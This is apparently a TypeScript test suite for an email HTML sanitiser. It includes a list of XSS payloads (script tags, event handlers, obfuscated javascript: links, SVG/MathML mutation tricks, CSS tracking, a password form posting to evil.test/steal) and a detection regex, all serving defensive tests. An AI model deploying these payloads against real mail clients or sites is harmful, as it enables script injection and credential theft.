import type { EmailAttachment } from '@teaminbox/contracts';
import { INLINE_PLACEHOLDER, prepareEmailHtml, resolveInlineImages, sanitizeEmailHtml } from './email-html';

const logo: EmailAttachment = {
  id: '0193a0a0-0000-7000-8000-00000000a001',
  filename: 'logo.png',
  size: 120,
  contentType: 'image/png',
  contentId: 'logo.1@example.com',
  inline: true,
};
const vectorImage: EmailAttachment = {
  id: '0193a0a0-0000-7000-8000-00000000a002',
  filename: 'shape.svg',
  size: 80,
  contentType: 'image/svg+xml',
  contentId: 'shape@example.com',
  inline: true,
};
const inlineUrl = (id: string) => `/api/attachments/${id}/inline?exp=1767744000&sig=abc`;
const prepare = (html: string, attachments: EmailAttachment[] = [logo, vectorImage]) =>
  prepareEmailHtml(html, attachments, inlineUrl);

/** Anything that could run, load, navigate or cover the page. */
const ACTIVE =
  /<\s*\/?\s*(script|style|iframe|frame|frameset|object|embed|applet|form|input|button|textarea|select|base|meta|link|svg|math|template|noscript)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:text|data:image\/svg|position\s*:\s*(fixed|absolute)|url\s*\(|expression\s*\(|@import|srcset|formaction|http-equiv/i;

const HOSTILE: [string, string][] = [
  ['script tag', '<p>Hello</p><script>alert(1)</script>'],
  [
    'script with odd casing and attributes',
    '<p>Hello</p><ScRiPt type="text/javascript" src="http://evil.test/x.js"></sCrIpT>',
  ],
  ['event handler on img', '<p>Hello</p><img src="x" onerror="alert(1)">'],
  [
    'event handlers on body and div',
    '<body onload="alert(1)"><div onmouseover="alert(1)" onclick=alert(1)>Hello</div></body>',
  ],
  ['javascript: link', '<a href="javascript:alert(1)">Hello</a>'],
  [
    'entity-encoded javascript: link',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Hello</a>',
  ],
  ['hex entities and a tab inside the scheme', '<a href="jav&#x09;ascript&#x3A;alert(1)">Hello</a>'],
  ['named colon entity', '<a href="javascript&colon;alert(1)">Hello</a>'],
  ['newline and leading spaces in the scheme', '<a href="  java\nscript:alert(1)">Hello</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">Hello</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Hello</a>'],
  [
    'SVG with script and onload',
    '<svg onload="alert(1)"><script>alert(1)</script><a href="javascript:alert(1)"><text>x</text></a></svg><p>Hello</p>',
  ],
  [
    'SVG animate setting href',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>click</text></a></svg><p>Hello</p>',
  ],
  ['SVG data URL image', '<p>Hello</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  [
    'MathML namespace confusion',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>Hello</p>',
  ],
  ['MathML href', '<math href="javascript:alert(1)"><mi>x</mi></math><p>Hello</p>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Hello</p>'],
  ['style block overlay', '<style>div{position:fixed;top:0;left:0;width:100%;height:100%}</style><div>Hello</div>'],
  ['inline fixed overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">Hello</div>'],
  ['inline absolute overlay', '<div style="position: absolute; top: -100px; left: 0">Hello</div>'],
  ['CSS expression', '<p style="width: expression(alert(1)); color: red">Hello</p>'],
  ['CSS url() background', '<p style="background-image: url(http://evil.test/track.png); color: red">Hello</p>'],
  ['CSS url() with escapes', '<p style="background: u\\72l(http://evil.test/x.png)">Hello</p>'],
  ['CSS javascript url', '<p style="background:url(javascript:alert(1))">Hello</p>'],
  [
    'CSS binding and behavior',
    '<p style="-moz-binding: url(http://evil.test/x.xml#x); behavior: url(x.htc)">Hello</p>',
  ],
  ['style @import', '<style>@import url(http://evil.test/x.css);</style><p>Hello</p>'],
  ['base href', '<base href="http://evil.test/"><p>Hello</p><a href="page">link</a>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0; url=http://evil.test/"><p>Hello</p>'],
  ['link stylesheet', '<link rel="stylesheet" href="http://evil.test/x.css"><p>Hello</p>'],
  ['srcset with remote URLs', '<p>Hello</p><img srcset="http://evil.test/a.png 1x, http://evil.test/b.png 2x">'],
  [
    'nested iframes',
    '<iframe src="http://evil.test/"><iframe srcdoc="<script>alert(1)</script>">x</iframe></iframe><p>Hello</p>',
  ],
  ['frameset', '<frameset><frame src="http://evil.test/"></frameset><p>Hello</p>'],
  [
    'object and embed',
    '<object data="http://evil.test/x.swf"><param name="x"></object><embed src="http://evil.test/x.swf"><p>Hello</p>',
  ],
  [
    'form action',
    '<form action="http://evil.test/steal" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Log in</button></form><p>Hello</p>',
  ],
  ['template', '<template><script>alert(1)</script></template><p>Hello</p>'],
  ['our own attribute planted', '<img data-remote-src="javascript:alert(1)"><p data-remote-src="x">Hello</p>'],
  ['comment-hidden markup', '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>Hello</p>'],
];

describe('prepareEmailHtml', () => {
  it.each(HOSTILE)('removes %s and keeps the text', (_name, html) => {
    const { html: clean } = prepare(html);
    expect(clean).not.toMatch(ACTIVE);
    expect(clean).toContain('Hello');
  });

  it('drops script and style contents, not only the tags', () => {
    const { html } = prepare('<p>Hello</p><script>var stolen = document.cookie;</script><style>.x{color:red}</style>');
    expect(html).toBe('<p>Hello</p>');
  });

  it('keeps only the allowed links and opens them in a new tab without opener or referrer', () => {
    const { html } = prepare(
      '<a href="https://example.com/a" target="_self" onclick="x()">web</a> <a href="mailto:a@example.com">mail</a> ' +
        '<a href="tel:+420123">phone</a> <a href="javascript:alert(1)">bad</a>',
    );
    expect(html).toBe(
      '<a href="https://example.com/a" target="_blank" rel="noopener noreferrer">web</a> ' +
        '<a href="mailto:a@example.com" target="_blank" rel="noopener noreferrer">mail</a> ' +
        '<a href="tel:+420123" target="_blank" rel="noopener noreferrer">phone</a> ' +
        '<a target="_blank" rel="noopener noreferrer">bad</a>',
    );
  });

  it('keeps a newsletter readable: tables, safe inline styles, fonts and images', () => {
    const { html } = prepare(
      '<html><head><title>Newsletter</title></head><body bgcolor="#eeeeee">' +
        '<table width="600" cellpadding="4" cellspacing="0" border="0" align="center" style="border-collapse: collapse; margin: 0 auto">' +
        '<tr><td valign="top" style="font-family: Arial, sans-serif; font-size: 14px; color: #333333; padding: 8px 12px">' +
        '<h1 style="text-align: center">News</h1><p>First <b>bold</b> and <i>italic</i>, <font color="red">red</font>.</p>' +
        '<ul><li>one</li><li>two</li></ul><img src="cid:logo.1@example.com" alt="Logo" width="120" height="40">' +
        '</td></tr></table></body></html>',
    );
    expect(html).toBe(
      '<div bgcolor="#eeeeee">' +
        '<table width="600" cellpadding="4" cellspacing="0" border="0" align="center" style="border-collapse:collapse;margin:0 auto">' +
        '<tr><td valign="top" style="font-family:Arial, sans-serif;font-size:14px;color:#333333;padding:8px 12px">' +
        '<h1 style="text-align:center">News</h1><p>First <b>bold</b> and <i>italic</i>, <font color="red">red</font>.</p>' +
        `<ul><li>one</li><li>two</li></ul><img alt="Logo" width="120" height="40" src="${inlineUrl(logo.id).replace(/&/g, '&amp;')}" />` +
        '</td></tr></table></div>',
    );
  });

  it('keeps the safe declarations of a style and drops the rest', () => {
    const { html } = prepare(
      '<div style="color: red; position: relative; position: fixed; top: 0; z-index: 10; display: none; ' +
        'background: #fff; background: url(x.png); font-weight: bold">x</div>',
    );
    expect(html).toBe('<div style="color:red;position:relative;display:none;background:#fff;font-weight:bold">x</div>');
  });

  it.each([
    ['with angle brackets', 'cid:<logo.1@example.com>'],
    ['percent-encoded brackets', 'cid:%3Clogo.1@example.com%3E'],
    ['bare', 'cid:logo.1@example.com'],
    ['other case and spaces', ' CID:Logo.1@Example.com '],
  ])('points cid: images to the inline URL of the matching attachment (%s)', (_name, src) => {
    const { html } = prepare(`<img src="${src}" alt="logo">`);
    expect(html).toBe(`<img alt="logo" src="${inlineUrl(logo.id).replace(/&/g, '&amp;')}" />`);
  });

  it('matches an attachment whose Content-ID is stored with angle brackets, and resolves cid: backgrounds', () => {
    const { html } = prepare(
      '<table background="cid:logo.1@example.com"><tr><td><img src="cid:logo.1@example.com"></td></tr></table>',
      [{ ...logo, contentId: '<logo.1@example.com>' }],
    );
    const url = inlineUrl(logo.id).replace(/&/g, '&amp;');
    expect(html).toBe(`<table background="${url}"><tr><td><img src="${url}" /></td></tr></table>`);
  });

  it('drops cid: images that name no attachment or no raster image', () => {
    const { html } = prepare('<p>x<img src="cid:unknown@example.com"><img src="cid:shape@example.com"></p>');
    expect(html).toBe('<p>x</p>');
  });

  it('blocks remote images into data-remote-src and counts them', () => {
    const { html, remoteImages } = prepare(
      '<img src="https://tracker.example/open.gif?u=1&amp;m=2" width="1" height="1">' +
        '<img src="//cdn.example/logo.png" alt="cdn">' +
        '<img srcset="http://cdn.example/a.png 1x, http://cdn.example/b.png 2x" alt="set">' +
        '<img src="relative.png" srcset="https://cdn.example/c.png 2x" alt="fallback">' +
        '<table background="http://cdn.example/bg.png"><tr><td background="https://cdn.example/cell.png">cell</td></tr></table>',
    );
    expect(remoteImages).toBe(6);
    expect(html).toBe(
      '<img width="1" height="1" data-remote-src="https://tracker.example/open.gif?u=1&amp;m=2" />' +
        '<img alt="cdn" data-remote-src="https://cdn.example/logo.png" />' +
        '<img alt="set" data-remote-src="http://cdn.example/a.png" />' +
        '<img alt="fallback" data-remote-src="https://cdn.example/c.png" />' +
        '<table data-remote-background="http://cdn.example/bg.png"><tr><td data-remote-background="https://cdn.example/cell.png">cell</td></tr></table>',
    );
    expect(html).not.toMatch(/\ssrc=|\sbackground=/);
  });

  it('keeps data: images of raster types only', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const { html, remoteImages } = prepare(
      `<img src="${png}"><img src="data:image/svg+xml;utf8,<svg onload=alert(1)>"><img src="data:text/html,x">`,
    );
    expect(html).toBe(`<img src="${png}" />`);
    expect(remoteImages).toBe(0);
  });

  it('answers null for an empty body and leaves plain text escaped', () => {
    expect(prepare('')).toEqual({ html: null, remoteImages: 0 });
    expect(prepareEmailHtml(null, [], inlineUrl)).toEqual({ html: null, remoteImages: 0 });
    expect(prepare('1 < 2 & "quoted"').html).toBe('1 &lt; 2 &amp; "quoted"');
  });

  it('sanitises once without the signed URLs, and resolving them later gives the same HTML', () => {
    const html =
      '<body background="cid:logo.1@example.com"><p>Hi <b>there</b></p><img src="cid:logo.1@example.com">' +
      '<img src="https://tracker.example/x.gif"><script>alert(1)</script></body>';
    const safe = sanitizeEmailHtml(html, [logo, vectorImage]);
    expect(safe.html).toContain(`${INLINE_PLACEHOLDER}${logo.id}`);
    expect(safe.html).not.toContain('/api/attachments');
    expect({
      html: resolveInlineImages(safe.html, [logo, vectorImage], inlineUrl),
      remoteImages: safe.remoteImages,
    }).toEqual(prepare(html));
    for (const [, hostile] of HOSTILE) {
      const once = sanitizeEmailHtml(hostile, [logo]);
      expect(resolveInlineImages(once.html, [logo], inlineUrl)).toBe(prepare(hostile, [logo]).html);
    }
  });

  it('never resolves a placeholder the message wrote itself, nor one naming another attachment', () => {
    const forged = sanitizeEmailHtml(`<img src="${INLINE_PLACEHOLDER}${vectorImage.id}"><p>x</p>`, [logo, vectorImage]);
    expect(forged.html).toBe('<p>x</p>');
    const other = '0193a0a0-0000-7000-8000-00000000ffff';
    expect(resolveInlineImages(`<img src="${INLINE_PLACEHOLDER}${other}" />`, [logo], inlineUrl)).toBe('<img  />');
  });
});
